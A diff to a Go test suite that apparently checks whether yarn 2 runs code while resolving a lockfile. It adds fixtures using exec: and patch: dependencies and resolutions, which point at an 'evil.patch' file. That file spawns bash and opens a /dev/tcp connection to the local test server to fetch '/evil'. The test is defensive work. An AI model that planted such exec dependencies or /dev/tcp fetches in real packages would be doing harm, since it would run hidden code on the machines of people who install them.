@@ -133,6 +133,18 @@ func (x *index) nodeAssaults() map[string]assault {
 		a.head = head
 		return a
 	}
+
+	// A package can be made by a program, which runs when it is resolved. Patches of the
+	// head are among the data for yarn.
+	made := func(members string) assault {
+		at := strings.Replace(strings.TrimPrefix(x.own.URL, "http://"), ":", "/", 1)
+		a := berry(map[string]string{
+			"package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "node --test"}, ` + members + `}`,
+			"evil.patch":   "require('child_process').execFileSync('bash', ['-c', \"exec 3<>/dev/tcp/" + at + " && printf 'GET /evil HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3 && cat <&3\"], { stdio: 'inherit' });\n",
+		})
+		a.unharmed = false
+		return a
+	}
 	// The base brings its own yarn, and the machine's is another one.
 	pinned := func(head map[string]string) assault {
 		a := berry(nil)
@@ -159,6 +171,9 @@ func (x *index) nodeAssaults() map[string]assault {
 	}
 	return map[string]assault{
 		"yarn 2, yarnPath":   berry(map[string]string{".yarnrc.yml": "nodeLinker: node-modules\nyarnPath: evil.cjs\n", "evil.cjs": evilJS}),
+		"yarn 2, made":       made(`"dependencies": {"tiny": "1.0.0", "x": "exec:./evil.patch"}`),
+		"yarn 2, made over":  made(`"dependencies": {"tiny": "1.0.0"}, "resolutions": {"tiny": "patch:tiny@exec%3A./evil.patch#./evil.patch"}`),
+		"yarn 2, resolution": made(`"dependencies": {"tiny": "1.0.0"}, "resolutions": {"tiny": "exec:./evil.patch"}`),
 		"yarn 2, pinned":     pinned(map[string]string{"package.json": strings.Replace(scripted, "preinstall", "postinstall", 1)}),
 		"yarn 2, other pin":  pinned(map[string]string{".yarn/releases/yarn-4.cjs": evilJS}),
 		"yarn 2, plug-in":    berry(map[string]string{".yarnrc.yml": "nodeLinker: node-modules\nplugins:\n  - path: evil.cjs\n    spec: evil\n", "evil.cjs": evilJS + "module.exports = { name: 'evil', factory: () => ({}) };\n"}),
@@ -196,7 +211,7 @@ func (x *index) lock(t *testing.T, path, name string, argv []string, files map[s
 	cmd.Dir = dir
 	cmd.Env = []string{
 		"PATH=" + path, "HOME=" + t.TempDir(), "BUN_CONFIG_REGISTRY=" + x.URL, "YARN_NPM_REGISTRY_SERVER=" + x.URL,
-		"YARN_UNSAFE_HTTP_WHITELIST=127.0.0.1", "YARN_NPM_MINIMAL_AGE_GATE=0", "YARN_ENABLE_TELEMETRY=false", "YARN_ENABLE_IMMUTABLE_INSTALLS=false",
+		"YARN_UNSAFE_HTTP_WHITELIST=127.0.0.1", "YARN_ENABLE_TELEMETRY=false", "YARN_ENABLE_IMMUTABLE_INSTALLS=false",
 	}
 	if out, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("%s: %v\n%s", argv, err, out)
